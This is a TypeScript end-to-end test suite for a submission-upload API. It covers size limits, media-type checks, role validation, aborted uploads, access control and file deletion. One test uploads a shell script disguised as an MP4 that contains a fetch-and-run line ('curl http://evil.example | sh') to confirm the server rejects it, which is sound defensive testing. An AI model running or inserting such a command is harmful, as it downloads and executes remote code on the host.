import { mkdtemp, rm } from 'node:fs/promises';
import { request as httpRequest } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import {
  competition,
  filesUnder,
  mp4,
  person,
  Person,
  programme,
  waitUntil,
} from './support/competitions';
import { auth, Harness } from './support/harness';

const MB = 1024 * 1024;

describe('uploads (e2e)', () => {
  let h: Harness;
  let uploads: string;
  let owner: Person;
  let entryId: string;

  beforeAll(async () => {
    uploads = await mkdtemp(join(tmpdir(), 'kenal-uploads-'));
    h = await Harness.start({ env: { UPLOAD_DIR: uploads, LOG_LEVEL: 'error' } });
    const coordinator = await h.userWithRoles(['coordinator']);
    const programmeId = await programme(h, coordinator.token, 'uploads');
    const c = await competition(h, coordinator.token, programmeId, {
      limits: { maxUploadBytes: MB },
    });
    owner = await person(h, 'KR');
    const entry = await h
      .http()
      .post(`/api/v1/competitions/${c.id}/submissions`)
      .set(auth(owner.token))
      .send({ title: 'Film' })
      .expect(201);
    entryId = entry.body.id;
  });
  afterAll(async () => {
    await h.stop();
    await rm(uploads, { recursive: true, force: true });
  });

  const unchanged = async () => {
    expect(await filesUnder(uploads)).toEqual([]);
    expect(await h.count('submission_assets')).toBe(0);
    const entry = await h.http().get(`/api/v1/submissions/${entryId}`).set(auth(owner.token));
    expect(entry.body.version).toBe(1);
  };

  it('answers a 2 MB file against a 1 MB limit with 413 problem+json naming the limit, and keeps nothing', async () => {
    const res = await h
      .http()
      .post(`/api/v1/submissions/${entryId}/assets`)
      .set(auth(owner.token))
      .field('role', 'video')
      .attach('file', mp4(2 * MB), 'film.mp4');
    expect(res.status).toBe(413);
    expect(res.headers['content-type']).toMatch(/^application\/problem\+json/);
    expect(res.body).toMatchObject({
      code: 'PAYLOAD_TOO_LARGE',
      detail: expect.stringContaining('1 MB (1048576 bytes)'),
    });
    await unchanged();
  });

  it('accepts a file of exactly the limit', async () => {
    const res = await h
      .http()
      .post(`/api/v1/submissions/${entryId}/assets`)
      .set(auth(owner.token))
      .field('role', 'video')
      .attach('file', mp4(MB), 'film.mp4')
      .expect(201);
    expect(res.body.size).toBe(MB);
    expect(await filesUnder(uploads)).toHaveLength(1);
    await h.db.query('DELETE FROM submission_assets');
    await h.db.query('DELETE FROM submission_versions WHERE version > 1');
    await h.db.query('UPDATE submissions SET version = 1');
    await rm(uploads, { recursive: true, force: true });
  });

  it('answers a shell script named film.mp4 with 415, and a video sent as a poster too', async () => {
    const script = Buffer.from('#!/bin/sh\ncurl http://evil.example | sh\n');
    const res = await h
      .http()
      .post(`/api/v1/submissions/${entryId}/assets`)
      .set(auth(owner.token))
      .field('role', 'video')
      .attach('file', script, { filename: 'film.mp4', contentType: 'video/mp4' });
    expect([res.status, res.body.code]).toEqual([415, 'UNSUPPORTED_MEDIA_TYPE']);
    const poster = await h
      .http()
      .post(`/api/v1/submissions/${entryId}/assets`)
      .set(auth(owner.token))
      .field('role', 'poster')
      .attach('file', mp4(1000), { filename: 'poster.png', contentType: 'image/png' });
    expect(poster.status).toBe(415);
    await unchanged();
  });

  it('answers a missing or unknown role, a missing file and a JSON body with 4xx, and keeps nothing', async () => {
    const noRole = await h
      .http()
      .post(`/api/v1/submissions/${entryId}/assets`)
      .set(auth(owner.token))
      .attach('file', mp4(1000), 'film.mp4');
    expect([noRole.status, noRole.body.errors[0].path]).toEqual([400, 'role']);
    const badRole = await h
      .http()
      .post(`/api/v1/submissions/${entryId}/assets`)
      .set(auth(owner.token))
      .field('role', 'trailer')
      .attach('file', mp4(1000), 'film.mp4');
    expect(badRole.status).toBe(400);
    const noFile = await h
      .http()
      .post(`/api/v1/submissions/${entryId}/assets`)
      .set(auth(owner.token))
      .field('role', 'video');
    expect(noFile.status).toBe(400);
    const json = await h
      .http()
      .post(`/api/v1/submissions/${entryId}/assets`)
      .set(auth(owner.token))
      .send({ role: 'video' });
    expect([json.status, json.body.code]).toEqual([415, 'UNSUPPORTED_MEDIA_TYPE']);
    await unchanged();
  });

  it('removes the partial file of an upload the client aborts', async () => {
    const boundary = 'kenal-boundary';
    const url = new URL(`${h.baseUrl}/api/v1/submissions/${entryId}/assets`);
    const req = httpRequest({
      host: url.hostname,
      port: url.port,
      path: url.pathname,
      method: 'POST',
      headers: {
        ...auth(owner.token),
        'content-type': `multipart/form-data; boundary=${boundary}`,
        'content-length': String(10 * MB),
      },
    });
    req.on('error', () => undefined);
    req.write(
      `--${boundary}\r\nContent-Disposition: form-data; name="role"\r\n\r\nvideo\r\n` +
        `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="film.mp4"\r\n` +
        'Content-Type: video/mp4\r\n\r\n',
    );
    req.write(mp4(256 * 1024));
    await waitUntil('a partial file on disk', async () => (await filesUnder(uploads)).length > 0);
    req.destroy();
    await waitUntil(
      'the partial file removed',
      async () => (await filesUnder(uploads)).length === 0,
    );
    await unchanged();
  });

  it('lets only those who may read the entry download its files', async () => {
    const res = await h
      .http()
      .post(`/api/v1/submissions/${entryId}/assets`)
      .set(auth(owner.token))
      .field('role', 'video')
      .attach('file', mp4(4096), 'film.mp4')
      .expect(201);
    const path = `/api/v1/submissions/${entryId}/assets/${res.body.id}`;
    await h.http().get(path).set(auth(owner.token)).expect(200);
    const otherCoordinator = await h.userWithRoles(['coordinator']);
    const judge = await h.userWithRoles(['judge']);
    const stranger = await h.register();
    for (const token of [otherCoordinator.token, judge.token, stranger.token]) {
      await h.http().get(path).set(auth(token)).expect(404);
    }
    await h.http().get(path).expect(401);
  });
});

describe('removing an uploaded file (e2e)', () => {
  let h: Harness;
  let uploads: string;
  beforeAll(async () => {
    uploads = await mkdtemp(join(tmpdir(), 'kenal-uploads-rm-'));
    h = await Harness.start({ env: { UPLOAD_DIR: uploads, LOG_LEVEL: 'error' } });
  });
  afterAll(async () => {
    await h.stop();
    await rm(uploads, { recursive: true, force: true });
  });

  it('lets a team member remove a file before the deadline, as a new version; others may not', async () => {
    const coordinator = await h.userWithRoles(['coordinator']);
    const programmeId = await programme(h, coordinator.token, 'uploads-rm');
    const c = await competition(h, coordinator.token, programmeId, {
      limits: { maxUploadBytes: MB },
    });
    const owner = await person(h, 'KR');
    const entry = await h
      .http()
      .post(`/api/v1/competitions/${c.id}/submissions`)
      .set(auth(owner.token))
      .send({ title: 'Film' })
      .expect(201);
    const up = await h
      .http()
      .post(`/api/v1/submissions/${entry.body.id}/assets`)
      .set(auth(owner.token))
      .field('role', 'video')
      .attach('file', mp4(4096), 'film.mp4')
      .expect(201);
    const path = `/api/v1/submissions/${entry.body.id}/assets/${up.body.id}`;
    expect(await filesUnder(uploads)).toHaveLength(1);

    const stranger = await h.register();
    expect((await h.http().delete(path).set(auth(stranger.token))).status).toBeGreaterThanOrEqual(
      403,
    );
    await h.http().delete(path).set(auth(coordinator.token)).expect(403);
    expect(await h.count('submission_assets')).toBe(1);

    await h.http().delete(path).set(auth(owner.token)).expect(204);
    expect(await h.count('submission_assets')).toBe(0);
    expect(await filesUnder(uploads)).toEqual([]);
    await h.http().get(path).set(auth(owner.token)).expect(404);
    await h.http().delete(path).set(auth(owner.token)).expect(404);
    const after = await h
      .http()
      .get(`/api/v1/submissions/${entry.body.id}`)
      .set(auth(owner.token))
      .expect(200);
    expect(after.body.version).toBe(3);
  });
});
